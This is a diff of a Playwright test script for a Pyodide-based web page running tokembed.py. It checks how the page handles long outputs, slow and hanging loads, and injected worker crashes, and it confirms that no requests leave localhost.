+  console.log(`page: a keystroke for 60 words x 16,384: longest main-thread task ${keyLong} ms, ` +
+              `${keyed.whole.toLocaleString("en-US")} characters, ` +
+              `${keyed.shown.toLocaleString("en-US")} shown`);
   await made.close();
-  done("budgets: first paint, first output, no long task, a held key, a superseded view");
+  done("budgets: first paint, first output, no long task, a held key, a superseded view, " +
+       "a keystroke for a long answer");
+
+  // Answers too long to show whole, from links: each settles, shows its start (the
+  // very bytes python3 printed) and says what it left out; no long task once Python
+  // is ready; the page's own address stays within what the server takes.
+  const long = await context({ viewport: { width: 1366, height: 900 }, acceptDownloads: true });
+  await long.route((url) => url.href.length > 60000, (route) => route.fulfill({
+    contentType: "text/html", body: served("index.html") }));  // longer than http.server takes
+  for (const [k, state] of big.entries()) {
+    const page = await long.newPage();
+    watch(page);
+    const errors = [];
+    page.on("pageerror", (error) => errors.push(error.message));
+    await page.goto(at(state.query));
+    await settled(page, 240000);
+    const seen = await shown(page);
+    const expected = read(`big-${k}.out`);
+    const where = `${state.command.slice(0, 70)}… (${expected.length.toLocaleString("en-US")} ` +
+      "characters)";
+    const slowest = await longAfter(page, "ready");
+    check(seen.whole === expected && seen.output.length < expected.length &&
+          expected.startsWith(seen.output) && seen.output.length > 1000,
+          `${where}: shows ${seen.output.length} characters, not the start of what python3 prints`);
+    check(/first [\d,]+ lines .* of the [\d,]+ lines/.test(seen.cut) && /run the command/.test(seen.cut),
+          `${where}: says "${seen.cut}" of what it left out`);
+    check(seen.command === state.command && (seen.commandShown === state.command ||
+          (state.command.startsWith(seen.commandShown.slice(0, -1)) &&
+           seen.commandShown.endsWith("…"))), `${where}: shows the command "${short(seen.command)}"`);
+    check(slowest <= 200, `${where}: a main-thread task of ${slowest} ms once Python was ready`);
+    check(!errors.length, `${where}: threw ${errors}`);
+    check(seen.path.length <= 8000, `${where}: its address is ${seen.path.length} characters`);
+    console.log(`page: ${state.command.slice(0, 60)}…: ${seen.output.length.toLocaleString("en-US")} ` +
+                `of ${expected.length.toLocaleString("en-US")} characters shown; longest task ` +
+                `once ready ${slowest} ms`);
+    if (k === 0) {  // the 10,000 x's: the address keeps the text's start, and says so
+      const kept = new URLSearchParams(seen.url).get("text");
+      check(/^x+$/.test(kept) && kept.length < 10000 && /first [\d,]+ of the 10,000 characters/
+        .test(seen.linkNote), `a 10,000-character text: the address keeps ${kept.length}, ` +
+        `and says "${seen.linkNote}"`);
+      const again = await page.reload();  // the server takes the page's own address
+      await settled(page, 240000);
+      check(again.status() === 200 && (await shown(page)).command ===
+            `python3 tokembed.py --tokens --d-model 48 -- ${kept}`,
+            `reloading its own address: ${again.status()}`);
+      const saved = await Promise.all([page.waitForEvent("download", { timeout: 30000 }),
+                                       page.click("#save", { timeout: 30000 })])
+        .then(async ([download]) => readFileSync(await download.path(), "utf8"), () => null);
+      check(saved === (await shown(page)).whole, "saves something other than the whole output");
+    }
+    await page.close();
+  }
+  await long.close();
+  done(`${big.length} answers too long to show whole: their start, what is left out, a file ` +
+       "of the whole, no long task, an address the server takes");
 }
 
-// --- 5. Failure paths end, each with one message and what to run ----------------------------
+// --- 5. Failure paths end, each with one message and what to run; slow is not dead --------------
 {
   const made = await context();
-  const ended = async (url, what, timeout = 15000) => {
-    const page = await made.newPage();
+  const readme = readFileSync(join(clone, "README.md"), "utf8");
+  const held = await context();  // Pyodide's WebAssembly never arrives
+  await held.route("**/pyodide.asm.wasm", () => {});
+  const ended = async (url, what, { timeout = 15000, holdWasm = false } = {}) => {
+    const page = await (holdWasm ? held : made).newPage();
     await page.goto(url);
-    await page.waitForSelector("#status[data-state=error]", { timeout });
+    try {
+      await page.waitForSelector("#status[data-state=error]", { timeout });
+    } catch {
+      check(false, `${url}: never ends, saying "${await page.textContent("#status")}"`);
+    }
     const after = await page.evaluate(() => ({
       status: document.getElementById("status").textContent,
       help: document.getElementById("help").textContent,
@@ -526,6 +834,7 @@ window.__done = performance.now();
         pre.textContent.split("\n")),
       enabled: !document.getElementById("text").disabled &&
                !document.getElementById("view").disabled,
+      started: Object.keys(window.tokembedPage.timings),
       silent: [...document.querySelectorAll(":disabled")].filter((control) => {
         const note = document.getElementById(`${control.id}-note`)?.textContent;
         const panel = control.closest("#copying") &&
@@ -534,17 +843,22 @@ window.__done = performance.now();
       }).map((control) => control.id || control.name) }));
     check(what.test(after.status), `${url}: says "${after.status}"`);
     check(after.help.includes(SERVE), `${url}: does not say what serves the page`);
-    const readme = readFileSync(join(clone, "README.md"), "utf8");
     const unsaid = after.commands.filter((line) => !readme.includes(`\n${line}`));
     check(!unsaid.length, `${url}: tells a learner to run what README.md does not: ${unsaid}`);
     check(after.enabled && !after.silent.length,
           `${url}: leaves controls disabled with no message: ${after.silent}`);
+    if (holdWasm) {
+      check(!after.started.some((step) => /^(compile|python|import):/.test(step)),
+            `${url}: said so only once Pyodide had started: ${after.started}`);
+    }
     await page.close();
   };
   const docsOnly = await pythonServer(join(clone, ".docs"));
-  const hanging = createServer((request, response) => {
-    const path = new URL(request.url, "http://x").pathname;
-    if (path === "/tokembed.py" || path.startsWith("/hang/")) return;  // never answers
+  const hanging = createServer((request, response) => {  // under /late/, tokembed.py hangs
+    let path = new URL(request.url, "http://x").pathname;
+    const late = path.startsWith("/late/");
+    if (late) path = path.slice("/late".length);
+    if ((path === "/tokembed.py" && late) || path.startsWith("/.docs/hang/")) return;  // never
     const file = join(clone, decodeURIComponent(path));
     if (!file.startsWith(clone) || !existsSync(file)) return response.writeHead(404).end();
     const types = { ".html": "text/html", ".js": "text/javascript", ".mjs": "text/javascript",
@@ -555,27 +869,113 @@ window.__done = performance.now();
   });
   await new Promise((resolve) => hanging.listen(0, "127.0.0.1", resolve));
   const slow = `http://127.0.0.1:${hanging.address().port}/.docs/index.html`;
+  const late = `http://127.0.0.1:${hanging.address().port}/late/.docs/index.html`;
+
+  // A worker.js with a fault put in, served in place of the real one
+  const faulty = async (into, from, to) => {
+    const body = served("worker.js");
+    check(body.includes(from), `worker.js no longer has "${from}": update this check`);
+    await into.route(/\/\.docs\/worker\.js$/, (route) => route.fulfill({
+      contentType: "text/javascript", body: body.replace(from, to) }));
+  };
+  const hear = (page) => page.evaluate(() => ({
+    status: document.getElementById("status").textContent,
+    output: document.getElementById("output").dataset.why ?? "",
+    failed: window.tokembedPage.failed, ready: document.body.dataset.ready,
+    restarts: window.tokembedPage.restarts,
+    workers: window.tokembedPage.events.filter(([what]) => what === "worker").length }));
+
+  // A start that takes a while (a slow machine, many tabs): a step of 50 s with no
+  // byte, longer than the 40 s that round two's watchdog allowed, is waited for.
+  const slowStart = async () => {
+    const waits = await context();
+    await faulty(waits, `stepped("python", "Python");`,
+                 `await new Promise((resolve) => setTimeout(resolve, 50_000)); stepped("python", "Python");`);
+    const page = await waits.newPage();
+    await page.goto(at(""));
+    await page.waitForTimeout(45_000);
+    const during = await page.evaluate(() => document.getElementById("progress").textContent);
+    await settled(page, 240000).catch(() => {});
+    const after = await hear(page);
+    check(!after.failed && after.ready === "yes" && /s\. A slow machine/.test(during),
+          `a 50 s step of loading: ${JSON.stringify(after)}, saying "${during}" meanwhile`);
+    await waits.close();
+  };
+  // Four tabs loading at once, from a cold cache: each is waited for
+  const fourTabs = async () => {
+    const tabs = await context();
+    const started = Date.now();
+    const took = await Promise.all([0, 1, 2, 3].map(async () => {
+      const page = await tabs.newPage();
+      await page.goto(at("view=table"));
+      await settled(page, 300000).catch(() => {});
+      const after = await hear(page);
+      check(!after.failed && after.ready === "yes", `one of four tabs at once: ${JSON.stringify(after)}`);
+      return Date.now() - started;
+    }));
+    console.log(`page: four tabs loading at once were ready after ${took.map(seconds).join(", ")}`);
+    await tabs.close();
+  };
+  // A view that hangs, and a worker that dies, with or without a word: each ends in a
+  // message, and a fresh Python runs the next view.
+  const stopped = async (word, how, within) => {
+    const dies = await context();
+    await faulty(dies, "self.onmessage = async ({ data }) => {",
+                 `self.onmessage = async ({ data }) => {\n  if (data.argv?.includes("${word}")) {${how}; return; }`);
+    const page = await dies.newPage();
+    await page.goto(`${slow}?pyodide=pyodide/`);
+    await settled(page, 240000).catch(() => {});
+    const started = Date.now();
+    await page.fill("#text", `my ${word}`);
+    await page.waitForFunction(() => /stopped/.test(document.getElementById("output").dataset.why),
+                               null, { timeout: within + 60000 }).catch(() => {});
+    const after = await hear(page);
+    const waited = Date.now() - started;
+    check(/The page stopped this view/.test(after.output) && after.restarts === 1 &&
+          after.workers === 2 && await page.isVisible("#retry"),
+          `${word}: ended in ${JSON.stringify(after)}`);
+    check(waited < within + 30000, `${word}: the page waited ${seconds(waited)} to say so`);
+    await settled(page, 240000).catch(() => {});
+    await page.fill("#text", "my order is late");
+    await settled(page, 240000).catch(() => {});
+    const next = await shown(page);
+    check(next.output === read("page-1.out"), `${word}: the fresh Python printed ${next.output}`);
+    console.log(`page: ${word}: stopped after ${seconds(waited)}, and a fresh Python went on`);
+    await dies.close();
+  };
   await Promise.all([
     ended(`file://${clone}/.docs/index.html`, /open as a file/),
-    ended(`${docsOnly.base}/index.html?pyodide=pyodide/`, /tokembed\.py could not be fetched.*404/),
-    ended(at("view=table").replace("pyodide=pyodide/", "pyodide=/nowhere/"),
+    ended(`${docsOnly.base}/index.html?pyodide=pyodide/`, /tokembed\.py could not be fetched.*404/,
+          { holdWasm: true }),
+    ended(at("view=table").replace("pyodide=pyodide/", "pyodide=nowhere/"),
           /Pyodide .*could not be loaded from .*nowhere/),
-    ended(`${slow}?pyodide=/hang/`, /Pyodide .*did not arrive within 30 s/, 45000),
-    ended(`${slow}?pyodide=pyodide/`, /tokembed\.py could not be fetched.*within 30 s/, 45000),
+    ended(`${slow}?pyodide=hang/`, /Pyodide .*did not arrive within 30 s/, { timeout: 60000 }),
+    ended(`${late}?pyodide=pyodide/`, /tokembed\.py could not be fetched.*within 30 s/,
+          { timeout: 60000 }),
+    slowStart(),
+    fourTabs(),
+    stopped("STUCK", `const hold = new XMLHttpRequest(); hold.open("GET", new URL("hang/x", ` +
+            `import.meta.url), false); try { hold.send(); } catch {}`, RUN_LIMIT),
+    stopped("GONE", "self.close()", RUN_LIMIT),
+    stopped("DIED", `setTimeout(() => { throw new Error("the worker died"); })`, 0),
   ]);
   docsOnly.close();
   hanging.closeAllConnections?.();
   hanging.close();
   await made.close();
-  done("file://, a missing tokembed.py, a bad Pyodide folder and two fetches that hang " +
-       "each end in one message");
+  await held.close();
+  done("file://, a missing tokembed.py (at once), a bad Pyodide folder and two fetches that " +
+       "hang each end in one message; a slow start and four tabs are waited for; a view " +
+       "that hangs and a worker that dies are stopped, said, and replaced");
 }
 
 check(!outside.length, `sent requests away from 127.0.0.1: ${outside.join(", ")}`);
 check(!attacked.length, `asked the attacker's server for ${attacked.join(", ")}`);
+check(!elsewhere.length, `asked for another folder's code: ${elsewhere.join(", ")}`);
 done("nothing left 127.0.0.1");
 await browser.close();
 attacker.close();
 site.close();
-console.log(`the page in Chromium: ${states.length} URL states, the same bytes as python3`);
+console.log(`the page in Chromium: ${states.length} URL states and ${big.length} long answers, ` +
+            "the same bytes as python3");
 process.exit(0);
